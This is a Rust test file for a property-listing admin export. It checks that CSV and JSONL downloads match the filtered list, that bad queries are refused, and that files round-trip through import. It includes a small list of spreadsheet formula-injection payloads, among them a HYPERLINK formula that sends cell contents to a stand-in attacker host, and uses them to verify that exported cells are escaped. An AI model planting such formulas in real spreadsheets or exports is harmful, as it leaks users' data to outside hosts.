//! Exports: the matching or selected listings, exact, safe to open, and the same after an import.

use super::imports::import;
use crate::harness::{Browser, Page, Plan, Shell, Shows as _, spawn_staffed};

async fn export(staff: &Browser, query: &str) -> Page {
    staff.get(&format!("/admin/properties/export/?{query}")).await
}

fn ids(csv: &str) -> String {
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    reader.records().map(|row| row.expect("a row")[0].to_owned()).collect::<Vec<_>>().join(" ")
}

#[tokio::test]
async fn a_download_has_what_the_list_has_in_its_order_on_every_page() {
    let (_app, staff) = spawn_staffed(250).await;
    let csv =
        export(&staff, "format=csv&location=leith&min_price=3000&max_price=9000&o=-price&page=7")
            .await;
    let csv = csv.assert_status(200);
    assert_eq!(ids(csv.text()), "9 7 5 3");
    let name = csv.header("content-disposition").to_owned();
    assert!(
        name.starts_with("attachment; filename=\"listings-2") && name.ends_with(".csv\""),
        "{name}"
    );
    assert!(csv.header("content-type").starts_with("text/csv"));
    assert_eq!(csv.header("cache-control"), "no-store, private");
    let all = export(&staff, "format=jsonl&o=id").await.assert_status(200);
    let lines: Vec<serde_json::Value> =
        all.text().lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(lines.len(), 250);
    assert_eq!(lines[2]["id"], 3);
    assert_eq!(lines[2]["price"], "3000.00");
    assert_eq!(lines[2]["created_at"], "2026-01-01T00:03:00.000000Z");
}

#[tokio::test]
async fn ticked_listings_are_downloaded_or_all_that_match_and_nothing_by_an_unread_filter() {
    let (app, staff) = spawn_staffed(9).await;
    for (ticked, across, want) in
        [(&["2", "5"][..], "", "5 2"), (&[], "", "9 7 5 3 1"), (&["2"], "1", "9 7 5 3 1")]
    {
        let mut fields = vec![
            ("action", "export_csv".to_owned()),
            ("select_across", across.to_owned()),
            ("_changelist_filters", "location=Leith".to_owned()),
        ];
        fields.extend(ticked.iter().map(|id| ("_selected_action", (*id).to_owned())));
        let csv = staff.submit("/admin/properties/", &fields).await;
        assert_eq!(ids(csv.assert_status(200).text()), want, "{ticked:?}");
    }
    // Invalid queries are refused.
    for query in ["", "format=xls", "format=csv&min_price=cheap"] {
        export(&staff, query).await.assert_status(400);
    }
    let unread = [("action", "export_csv"), ("_changelist_filters", "o=up")];
    staff.submit("/admin/properties/", &unread).await.assert_status(400);
    export(&app.stranger(), "format=csv").await.assert_status(302);
}

/// Texts that a spreadsheet would execute, or that look as if an export had escaped them.
const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''=twice",
    "'a quote",
    "plain, with \"quotes\"",
];

#[tokio::test]
async fn no_cell_of_a_download_is_run_and_an_import_gives_back_what_was_there() {
    let (app, staff) = spawn_staffed(0).await;
    for text in HOSTILE {
        app.sql(&format!(
            "INSERT INTO property (title, description, price, location) VALUES ({0}, {0} || E'\\n=2', 12345678.90, {0})",
            format!("'{}'", text.replace('\'', "''"))
        )).await;
    }
    let state = "SELECT string_agg(property::text, '|' ORDER BY id) FROM property";
    let before = app.sql(state).await;
    let csv = export(&staff, "format=csv&o=id").await.assert_status(200);
    let mut reader = csv::Reader::from_reader(csv.text().trim_start_matches('\u{feff}').as_bytes());
    for row in reader.records() {
        let row = row.expect("a row");
        let run = row.iter().find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
        assert_eq!(run, None);
        assert_eq!(&row[3], "12345678.90");
    }
    for format in ["csv", "sheet", "xlsx", "jsonl", "reso", "django"] {
        let file = export(&staff, &format!("format={format}&o=title")).await;
        let preview = import(&staff, &format!("again.{format}"), file.body).await;
        preview.shows(["there is nothing to import"]);
    }
    assert_eq!(app.sql(state).await, before);
    let shell = Shell::beside(&app);
    for format in ["csv", "jsonl"] {
        let file = export(&staff, &format!("format={format}")).await;
        let file = shell.file(&format!("listings.{format}"), file.text());
        let said = shell.run(&["loaddata", "--sheet", &file]).done();
        assert!(said.contains(&format!("({} of them unchanged)", HOSTILE.len())), "{said}");
    }
    assert_eq!(app.sql(state).await, before);
}

#[tokio::test]
async fn a_reader_who_goes_away_leaves_the_connection_to_others() {
    let app = Plan::with_homes(60_000).await.set("DATABASE_POOL_SIZE", "2").start().await;
    let staff = app.staff().await;
    for _ in 0..6 {
        let path = "/admin/properties/export/?format=csv";
        let answer = staff.request(reqwest::Method::GET, path).send().await;
        let mut answer = answer.expect("an answer");
        assert!(answer.chunk().await.expect("a piece").is_some());
    }
    let whole = export(&staff, "format=csv").await.assert_status(200);
    assert_eq!(whole.text().lines().count(), 60_001);
}
